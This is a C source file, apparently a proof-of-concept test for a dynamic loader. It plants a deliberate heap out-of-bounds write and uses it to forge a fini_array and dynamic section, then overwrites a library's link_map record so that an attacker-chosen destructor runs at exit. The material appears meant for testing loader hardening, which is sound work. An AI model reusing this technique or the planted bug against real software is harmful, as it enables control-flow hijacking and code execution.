/* A program that keeps notes on its heap and takes the caller's word for where
 * in a note to write.
 *
 * The loader runs destructors at exit by way of its records: of each object,
 * where its dynamic section is, and by that where its destructors are, or
 * where its destructors are at once. On upstream the records are on the heap
 * too. The attacker writes a table of destructors and a dynamic section into a
 * note, and by the overflow their addresses into the record of a library. */

#include "story.h"
#include <link.h>
#ifdef USE_DLOPEN
#include <dlfcn.h>
#else
int answer(void);
#endif

struct note { size_t len; char text[512]; };

struct note *note;

/* The bug: at is not held against len. */
__attribute__((noipa)) static void note_put(struct note *n, ptrdiff_t at, char c)
{
	n->text[at] = c;
}

static void note_write(struct note *n, ptrdiff_t at, const void *p, size_t len)
{
	for (size_t i=0; i<len; i++) note_put(n, at+i, ((const char *)p)[i]);
}

static int find_debug(struct dl_phdr_info *o, size_t size, void *data)
{
	(void)size;
	for (int i=0; i<o->dlpi_phnum; i++) {
		if (o->dlpi_phdr[i].p_type != PT_DYNAMIC) continue;
		ElfW(Dyn) *d = (void *)(o->dlpi_addr+o->dlpi_phdr[i].p_vaddr);
		for (; d->d_tag; d++)
			if (d->d_tag == DT_DEBUG) *(void **)data = (void *)d->d_un.d_ptr;
	}
	return 1;
}

/* What the attacker has learned of addresses before; here from r_debug. */
static struct link_map *record_of(const char *lib)
{
	struct r_debug *debug = 0;
	struct link_map *l;
	dl_iterate_phdr(find_debug, &debug);
	for (l=debug->r_map; l && !strstr(l->l_name, lib); l=l->l_next);
	return l;
}

static void fault(int sig, siginfo_t *si, void *context)
{
	static uintptr_t a;
	(void)sig; (void)context;
	a = (uintptr_t)si->si_addr;
	printf("fault at %lx%s\n", (unsigned long)a,
		si->si_code == SEGV_ACCERR ? ": not writable" : "");
	fflush(stdout);
}

int main(void)
{
	struct sigaction sa = { .sa_sigaction = fault,
		.sa_flags = SA_SIGINFO|SA_RESETHAND };
	struct note *n = note = calloc(1, sizeof *n);
#ifdef USE_DLOPEN
	if (!dlopen("libanswer.so", RTLD_NOW)) return 99;
#else
	if (answer() != 42) return 99;
#endif
	struct link_map *l = record_of("libanswer.so");
	if (!n || !l) return 99;

	struct { ElfW(Dyn) dyn[3]; void (*destructor)(void); } forged = {
		.dyn = { { .d_tag = DT_FINI_ARRAY }, { .d_tag = DT_FINI_ARRAYSZ } },
		.destructor = attacked,
	};
	uintptr_t text = (uintptr_t)n->text;
	forged.dyn[0].d_un.d_val = text+sizeof forged.dyn-l->l_addr;
	forged.dyn[1].d_un.d_val = sizeof forged.destructor;
	note_write(n, 0, &forged, sizeof forged);

	printf("the record says %lx at %lx\n", (unsigned long)l->l_ld,
		(unsigned long)&l->l_ld);
	fflush(stdout);
	sigaction(SIGSEGV, &sa, 0);
	/* If the record has the address of the destructors: a word that is as
	 * in the dynamic section. */
	size_t *word = (size_t *)l, table = 0;
	for (ElfW(Dyn) *d=l->l_ld; d->d_tag; d++)
		if (d->d_tag == DT_FINI_ARRAY) table = d->d_un.d_val;
	for (int i=0; i<64 && table; i++)
		if (word[i] == table) note_write(n, (char *)(word+i)-n->text,
			&forged.dyn[0].d_un.d_val, sizeof *word);
	note_write(n, (char *)&l->l_ld-n->text, &text, sizeof text);
	puts("overwritten");
	fflush(stdout);
	return 0;
}
